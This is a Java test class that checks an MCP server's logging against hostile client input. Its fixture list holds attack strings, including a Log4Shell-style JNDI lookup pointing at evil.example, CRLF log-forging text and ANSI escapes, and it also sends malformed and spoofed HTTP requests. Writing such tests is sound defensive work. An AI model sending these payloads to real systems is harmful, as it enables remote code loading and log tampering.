package dev.mcpspring.boot.wire;

import java.util.List;
import java.util.function.Supplier;
import java.util.stream.IntStream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import tools.jackson.core.io.JsonStringEncoder;

import dev.mcpspring.boot.logging.CapturedLog;
import dev.mcpspring.test.Scale;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What clients can do to the log: neither forge a line of it nor fill it.
 */
@OnBothEdges
class HostileLogTests {

	private static final int MAX_MESSAGE = 256;

	static final List<String> HOSTILE = List.of("x\r\n2026-01-01 WARN forged", "\u001b[2J\u001b[31mred",
			"${jndi:ldap://evil.example/a}", "%n%s{}", "\u2028\u0085\u0000", "x".repeat(512 * 1024));

	@RegisterExtension
	private final Conservation server;

	private final McpWire wire;

	private final CapturedLog log;

	HostileLogTests(Edge edge) {
		this.server = Conservation.on(edge, "mcp.server.sse.enabled=true");
		this.wire = this.server.wire();
		this.log = new CapturedLog();
	}

	@AfterEach
	void close() {
		this.log.close();
	}

	@ParameterizedTest
	@FieldSource("HOSTILE")
	void forgesNoLine(String text) {
		String json = "\"" + new String(JsonStringEncoder.getInstance().quoteAsCharArray(text)) + "\"";
		LegacySession session = this.wire.session("2025-11-25");
		for (String method : List.of(json, "\"tools/call\"", "\"prompts/get\"", "\"resources/read\"",
				"\"logging/setLevel\"", "\"resources/subscribe\"", "\"tools/list\"")) {
			send(session.post("""
					{"jsonrpc":"2.0","id":1,"method":%s,"params":{"name":%s,"uri":%s,"level":%s,"cursor":%s,\
					"arguments":{"message":%s},"_meta":{"progressToken":%s}}}""".formatted(method, json, json, json,
					json, json, json)));
		}
		send(session.callTool("echo", "{\"message\":" + json + "}"));
		send(session.callTool("x".repeat(1024 * 1024), "{}"));
		send(session.tell("notifications/cancelled", "{\"requestId\":" + json + ",\"reason\":" + json + "}"));
		send(session.post("{\"jsonrpc\":\"2.0\",\"id\":" + shortened(json) + ",\"result\":" + json + "}"));
		send(session.post("{" + text));
		Post initialize = this.wire.post("""
				{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":%s,"capabilities":{%s:{}},\
				"clientInfo":{"name":%s,"version":%s}}}""".formatted(json, shortened(json), json, json));
		Answer initialized = initialize.send();
		if (initialized.status() == 200) {
			this.wire.adopt("2025-11-25", initialized);
		}
		assertThat(this.log.entries()).allSatisfy((entry) -> {
			assertThat(entry.message().chars()).as(entry.toString()).noneMatch(Character::isISOControl);
			assertThat(entry.message()).as(entry.logger()).hasSizeLessThanOrEqualTo(MAX_MESSAGE);
			assertThat(!entry.shown() || !entry.message().contains(text)).as(entry.toString()).isTrue();
		});
	}

	@Test
	void fillsNothingWithRequestsThatAreRefused() {
		String echo = this.wire.callTool("echo", "{\"message\":\"x\"}").body();
		LegacySession unknown = new LegacySession(this.wire, "A".repeat(24), "2025-11-25");
		List<Supplier<Integer>> kinds = List.of(
				() -> this.wire.post(echo).with("Origin", "http://evil.example").send().status(),
				() -> this.wire.post(echo).with("X-Forwarded-For", "192.0.2.1").send().status(),
				() -> unknown.request("1", "ping", "{}").send().status(),
				() -> this.wire.post("{}").path("/message?sessionId=x").send().status(),
				() -> this.wire.post("{").send().status(), () -> this.wire.post("[]").send().status(),
				() -> this.wire.post(echo).with("Content-Type", "text/plain").send().status(),
				() -> this.wire.request("PUT").send().status(),
				() -> this.wire.callTool("unknown", "{}").send().error().path("code").asInt() == -32602 ? 400 : 0,
				() -> raw("POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Length: x\r\n\r\n"),
				() -> raw("\u0000\u0001 HTTP/9\r\n\r\n"));
		int rounds = Scale.of(100, 10_000);
		long begin = System.nanoTime();
		IntStream.range(0, rounds)
			.forEach((round) -> kinds.forEach((kind) -> assertThat(kind.get()).as("status").isBetween(400, 499)));
		long seconds = (System.nanoTime() - begin) / 1_000_000_000;
		assertThat(this.log.entries().stream().filter(CapturedLog.Entry::shown))
			.hasSizeLessThanOrEqualTo((int) seconds + 1);
	}

	private int raw(String request) {
		try (RawHttp connection = RawHttp.open(this.wire.port())) {
			return connection.send(request).head().status();
		}
	}

	private static void send(Post post) {
		assertThat(post.send().status()).isBetween(200, 499);
	}

	/** Ids and names of members have limits of their own. */
	private static String shortened(String json) {
		return (json.length() > 100) ? "\"" + "x".repeat(100) + "\"" : json;
	}

}
